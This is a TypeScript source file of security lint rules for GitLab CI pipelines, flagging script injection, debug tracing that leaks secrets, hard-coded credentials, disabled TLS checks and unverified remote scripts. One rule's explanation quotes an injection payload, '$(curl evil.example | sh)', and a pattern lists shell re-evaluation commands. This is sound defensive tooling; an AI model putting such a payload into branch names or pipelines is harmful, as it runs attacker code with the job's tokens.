import type { Fault } from '../configuration-rule.ts';
import { isPlaceholder, namesCredential } from '../secret-names.ts';
import { literalSecretText, remoteScriptText, tlsOffText } from '../shared-texts.ts';
import { remoteScripts, unverifiedFetches } from '../shell/commands.ts';
import { isUnverifiedVariable } from '../shell/unverified-variable.ts';
import { placeOf } from '../yaml/yaml-node.ts';
import { defineGitlabRule } from './define.ts';
import { commandsOf, partsOf, variablesOf } from './pipeline.ts';

/** Variables whose text the author of a merge request or a commit writes (docs.gitlab.com/ci/variables/predefined_variables). */
const written =
  /\$\{?(CI_COMMIT_(MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG|AUTHOR)|CI_MERGE_REQUEST_(TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS)|GITLAB_USER_NAME|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME)\b/;

/** Commands that read their text as a program, or hand it to a shell elsewhere. */
const readAgain = /\b(eval|(ba|z|da)?sh\s+-c|python3?\s+-c|node\s+-e|ssh\s+\S+|xargs\s+sh)\b[^\n]*/;

/** Between single quotes nothing is put in before the second reading, unless they stand between double ones. */
function withoutFixedText(text: string): string {
  return text.replace(/"(?:\\.|[^"\\])*"|'[^']*'/g, (quoted) => (quoted.startsWith("'") ? '' : quoted));
}

export const scriptInjection = defineGitlabRule({
  id: 'configuration/gitlab-script-injection',
  title: '`{source}` is read as a command',
  cwe: 'CWE-78',
  severity: 'high',
  why: 'Whoever names a branch or writes a commit message such as `$(curl evil.example | sh)` runs commands in the job, with its variables and token.',
  instead: 'Use the variable in quotes as one argument, and never in text that a shell reads once more.',
  example: 'script:\n  - ./tag.sh -- "$CI_COMMIT_TITLE"',
  *find(pipeline): Iterable<Fault> {
    for (const { id, node } of partsOf(pipeline)) {
      for (const command of commandsOf(node)) {
        const again = readAgain.exec(command.text)?.[0] ?? '';
        const variable = written.exec(withoutFixedText(again))?.[0];
        if (variable !== undefined)
          yield {
            at: command,
            trail: command.via,
            identity: `${id} ${variable}`,
            source: variable.replace('{', ''),
          };
      }
    }
  },
});

export const shownVariables = defineGitlabRule({
  id: 'configuration/gitlab-debug-trace',
  title: 'The log shows every variable of the job: `{sink}`',
  cwe: 'CWE-532',
  severity: 'high',
  why: 'With tracing on, passwords and tokens of the job are printed, and whoever may read the log has them.',
  instead: 'Leave it off, and print what you need.',
  example: 'variables:\n  CI_DEBUG_TRACE: "false"',
  *find(pipeline): Iterable<Fault> {
    for (const { id, node } of partsOf(pipeline))
      for (const { name, value, entry } of variablesOf(node))
        if (/^CI_DEBUG_(TRACE|SERVICES)$/.test(name) && /^(true|1|yes)$/i.test(value))
          yield { ...placeOf(entry), identity: `${id} ${name}`, sink: `${name}: ${value}` };
  },
});

export const literalSecret = defineGitlabRule({
  ...literalSecretText,
  example: 'variables:\n  DEPLOY_USER: release # the password is a masked variable of the project',
  *find(pipeline): Iterable<Fault> {
    for (const { id, node } of partsOf(pipeline))
      for (const { name, value, entry } of variablesOf(node))
        // Services of a test run are thrown away with it.
        if (
          namesCredential(name) &&
          value !== '' &&
          !isPlaceholder(value) &&
          !/^(POSTGRES|MYSQL|MARIADB|RABBITMQ|REDIS|MONGO)\w*_/.test(name)
        )
          yield { ...placeOf(entry), identity: `${id} ${name}`, sink: name };
  },
});

export const tlsOff = defineGitlabRule({
  ...tlsOffText,
  example: 'variables:\n  GIT_SSL_CAINFO: $CI_PROJECT_DIR/company-ca.pem',
  *find(pipeline): Iterable<Fault> {
    for (const { id, node } of partsOf(pipeline)) {
      for (const { name, value, entry } of variablesOf(node))
        if (isUnverifiedVariable(name, value) || (name === 'DOCKER_TLS_CERTDIR' && value === ''))
          yield {
            ...placeOf(entry),
            identity: `${id} ${name}`,
            sink: `${name}=${value}`,
            ...(name === 'DOCKER_TLS_CERTDIR' ? { severity: 'low' as const } : {}),
          };
      for (const command of commandsOf(node))
        for (const found of unverifiedFetches(command.text))
          yield { at: command, trail: command.via, identity: `${id} ${found.text}`, sink: found.text };
    }
  },
});

export const remoteScript = defineGitlabRule({
  ...remoteScriptText,
  example:
    'script:\n  - curl -fsSLo tool.tgz https://example.com/tool-1.2.3.tgz\n  - echo "$TOOL_SHA256  tool.tgz" | sha256sum --check',
  *find(pipeline): Iterable<Fault> {
    for (const { id, node } of partsOf(pipeline))
      for (const command of commandsOf(node))
        for (const found of remoteScripts(command.text))
          yield { at: command, trail: command.via, identity: `${id} ${found.text}`, sink: found.text };
  },
});
